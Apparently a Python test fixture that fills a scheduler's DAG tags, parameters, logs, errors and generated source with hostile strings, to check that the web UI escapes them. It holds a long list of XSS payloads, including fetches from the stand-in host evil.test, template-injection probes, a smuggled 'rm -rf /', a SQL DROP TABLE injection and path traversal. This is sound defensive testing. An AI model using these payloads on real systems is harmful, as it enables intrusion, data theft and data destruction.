"""Texts that would do something if a page took them for more than text, and dags that say them everywhere.

Each would set `window.pwned`, open a dialog, or fetch from elsewhere, which the CSP reports.
"""

import importlib.util
from collections.abc import Sequence
from itertools import islice, product
from pathlib import Path
from typing import Any

import msgspec

from api.dags import GATE
from ppacer import Dag, TaskContext, task
from ppacer.dag.check import TAG_CHARS_MAX
from ppacer.schedule import Cron

COUNT = 300  # that any text may be
GROUPS = 3  # dags that share them: a dag has 100 tags at most

DEEDS = ("pwned=1", "alert(1)", "window['pwned']=1", "fetch('//evil.test')", "self.pwned=`1`")
ATTACKS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script/x>{}</script>", "<<script>{}//<</script>",
    "</script><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</style><script>{}</script>", "</pre></code><script>{}</script>", "<!--><script>{}</script>",
    "--><script>{}</script><!--", "--!><script>{}</script>", "<![CDATA[<script>{}</script>]]>",
    "]]><script>{}</script>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src=x onerror=\"{}\">",
    "<image src=x onerror={}>", "<svg onload={}>", "<svg/onload={}//", "<svg><script>{}</script></svg>",
    "<svg><a xlink:href=\"javascript:{}\"><rect width=9 height=9></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributename=x>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<svg><foreignObject><body onload={}>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<marquee onstart={}>", "<iframe src=\"javascript:{}\">", "<iframe srcdoc=\"<script>{}</script>\">",
    "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">", "<a href=\"javascript:{}\">x</a>",
    "<form action=\"javascript:{}\"><button>x</button></form>", "<isindex action=\"javascript:{}\">",
    "<base href=\"javascript:{}//\">", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<div hx-on:load=\"{}\">", "<div hx-get=/ hx-trigger=\"load[{}]\">", "<div hx-vals=\"js:{{{}}}\">",
    "<style>@import '//evil.test';</style>{}", "<link rel=stylesheet href=//evil.test>{}",
    "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "`><img src=x onerror={}>",
    "\" onmouseover=\"{}\" x=\"", "' onfocus='{}' autofocus='", "` onclick=`{}`", " onerror={} src=x ",
    "\" autofocus onfocus={} x=\"", "javascript:{}", "JaVaScRiPt:{}", "java&#115;cript:{}",
    "javascript&colon;{}", "data:text/html,<script>{}</script>", "vbscript:{}", "//evil.test/{}",
    "{{{{7*7}}}}{}", "{{% print 7*7 %}}{}", "{{{{ self.__init__.__globals__ }}}}{}", "${{7*7}}{}",
    "#{{7*7}}{}", "<%= 7*7 %>{}", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "&amp;lt;b&gt;{}", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "\u02c2img src=x onerror={}\u02c3",
    "\u017fcript<\u017fcript>{}", "<\u0131mg src=x onerror={}>", "\U000e003cscript\U000e003e<b>{}",
    "\u2039svg onload={}\u203a", "%3Cscript%3E{}%3C/script%3E", "\\x3cscript\\x3e{}",
    "\\u003cscript\\u003e{}", "';{};//", "\");{};//", "`; rm -rf / `{}", "'; DROP TABLE dagruns; -- {}",
    "../../../../{}", "[x](javascript:{})",
)  # fmt: skip
UNPRINTABLE = (
    "\r\ndata: <script>pwned=1</script>\r\n\r\n", "\rdata: <img src=x onerror=pwned=1>\r\r",
    "\n\nevent: message\ndata: <svg onload=pwned=1>\n\n", "\u2028<script>pwned=1</script>\u2029",
    "\x85data: <svg onload=pwned=1>\x0b\x0c\x1c\x1d\x1e", "<scr\x00ipt>pwned=1</scr\x00ipt>",
    "\x1b[31m<b>red</b>\x1b[0m", "\x1b]0;title\x07<i>x</i>", "\x1b]8;;javascript:pwned=1\x1b\\link",
    "\u202e>'x'=1rorreno gmi<", "\ufeff<img src=x onerror=pwned=1>", "<img\x0csrc=x\x0conerror=pwned=1>",
    "<img\tsrc=x\tonerror=pwned=1>", "java\tscript:pwned=1", "\x01javascript:pwned=1", "\ufffd<b>\ufffe",
)  # fmt: skip


def strings() -> list[str]:
    """The texts that can stand anywhere a user may write."""
    made = (attack.format(deed) for deed, attack in product(DEEDS, ATTACKS))
    return [*islice((one for one in made if one.isprintable() and len(one) <= TAG_CHARS_MAX), COUNT)]


def groups() -> list[list[str]]:
    """The same, as many as one dag can say."""
    every = strings()
    return [every[at::GROUPS] for at in range(GROUPS)]


class Breaks:
    """A schedule that is told in hostile words, and raises them."""

    start = None

    def __init__(self, words: Sequence[str]) -> None:
        self._words = words

    def next(self, current: Any, previous: Any) -> None:
        raise ValueError(" ".join(self._words))

    def __str__(self) -> str:
        return " ".join(self._words)[:900]


def hostile_dags(folder: Path) -> list[Dag]:
    """For each group one dag that says all of it: tags, names and values of parameters, log, errors,
    results, source; and one whose schedule does."""
    return [_dag(number, words, folder) for number, words in enumerate(groups())] + [_broken()]


def _broken() -> Dag:
    with Dag("breaks", schedule=Breaks(strings())) as dag:
        task(lambda: None, id="nothing")()
    return dag


def _dag(number: int, words: list[str], folder: Path) -> Dag:
    lines = [*words, *UNPRINTABLE]

    @task
    def shout(ctx: TaskContext) -> None:
        for line in lines:
            ctx.logger.warning("%s", line, extra={"more": line})
        GATE.wait()
        for line in lines:
            ctx.logger.error(line)

    @task
    def fall() -> None:
        raise RuntimeError("\n".join(lines))

    @task
    def give() -> dict[str, str]:
        return dict.fromkeys(words, words[-1])

    with Dag(f"hostile.{number}", schedule=Cron("0 0 1 1 *"), tags=words, params=_params(words)) as dag:
        shout()
        fall()
        give()
        _sourced(words, folder / f"hostile_source_{number}.py")()
    return dag


def _params(words: Sequence[str]) -> type:
    """A parameter for each word: its value, and its name where the grammar of names allows it."""
    names = {f"p{at}": word for at, word in enumerate(words) if not set(word) & {'"', "\\"}}
    fields = [(f"p{at}", str, word) for at, word in enumerate(words)]
    return msgspec.defstruct("Hostile", [*fields, ("number", int, 1)], rename=names)


def _sourced(words: Sequence[str], file: Path) -> Any:
    """A task whose source says the words."""
    comments = "".join(f"    # {word}\n" for word in words)
    file.write_text(
        f"from ppacer import task\n\n\n@task\ndef quote() -> None:\n{comments}    return\n", "utf-8"
    )
    spec = importlib.util.spec_from_file_location(file.stem, file)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.quote
